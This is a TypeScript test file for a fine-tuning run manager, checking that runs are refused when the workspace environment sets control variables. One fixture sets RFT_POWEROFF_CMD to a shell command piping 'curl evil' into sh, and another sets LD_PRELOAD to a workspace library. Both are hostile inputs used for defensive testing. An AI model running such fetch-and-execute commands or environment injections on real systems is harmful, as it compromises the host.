// A run whose workspace environment sets an interpreter or runner variable is refused before anything starts
// (issue 30 items 2 and 6): no record, no instance, no sync, and the message names the variables.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RunStore } from '../../../src/core/runs/store/runStore';
import { RunManager } from '../../../src/core/runs/lifecycle/runManager';
import { Ledger } from '../../../src/core/runs/store/ledger';
import type { StartRequest } from '../../../src/core/runs/lifecycle/runTypes';
import { CONTROL_VARIABLES } from '../../../src/core/config/controlVariables';

function manager(storage: string, synced: string[]): RunManager {
  return new RunManager({
    store: new RunStore(join(storage, 'runs.json')),
    storageDir: storage,
    runnerDir: join(__dirname, '../../../python-runner'),
    runnerVersion: 'test',
    connectOptions: { hostKeyStore: join(storage, 'store'), knownHostsFiles: [], agentSocket: null, sshConfigPath: join(storage, 'none') },
    ledger: new Ledger(join(storage, 'instances.json')),
    sync: async (_s, from) => {
      synced.push(from);
      throw new Error('sync must not be reached');
    },
  });
}

function request(env: Record<string, string>): StartRequest {
  return {
    specPath: '/ws/finetune.yaml',
    specText: 'version: 1\n',
    spec: { version: 1 },
    name: 'r',
    workspaceDir: '/ws',
    env,
    target: { kind: 'ssh', host: 'nobody@127.0.0.1:1' },
    teardown: { policy: 'keep' },
    // Code that went ahead would try to reach this host; the refusal must come first, so it is never waited for.
    signal: AbortSignal.timeout(3000),
  };
}

test('start: RFT_POWEROFF_CMD, PYTHONSAFEPATH= or LD_PRELOAD in the workspace env refuses the run before anything exists', async () => {
  const envs: Record<string, string>[] = [
    { HF_TOKEN: 'hf_x', RFT_POWEROFF_CMD: '["/bin/sh","-c","curl evil | sh"]' },
    { PYTHONSAFEPATH: '' },
    { LD_PRELOAD: '/ws/x.so', PYTHONHOME: '/ws/py' },
  ];
  for (const env of envs) {
    const storage = mkdtempSync(join(tmpdir(), 'rft-ctl-'));
    const synced: string[] = [];
    const m = manager(storage, synced);
    await assert.rejects(m.start(request(env)), (err: Error) => {
      for (const name of Object.keys(env).filter((k) => k !== 'HF_TOKEN')) assert.match(err.message, new RegExp(name));
      assert.match(err.message, /RFT610/);
      return true;
    });
    assert.deepEqual(new RunStore(join(storage, 'runs.json')).all(), []);
    assert.deepEqual(synced, []);
    await m.dispose();
  }
});

test('the refused names are the runner’s own list (python-runner/remote_finetune/control_env.py)', () => {
  const py = readFileSync(join(__dirname, '../../../python-runner/remote_finetune/control_env.py'), 'utf8');
  const tuple = /CONTROL_VARIABLES = \(([^)]*)\)/.exec(py)![1]!;
  assert.deepEqual(
    [...tuple.matchAll(/"([A-Z_]+)"/g)].map((m) => m[1]),
    [...CONTROL_VARIABLES],
  );
  assert.match(py, /CONTROL_PREFIXES = \("RFT_",\)/);
});
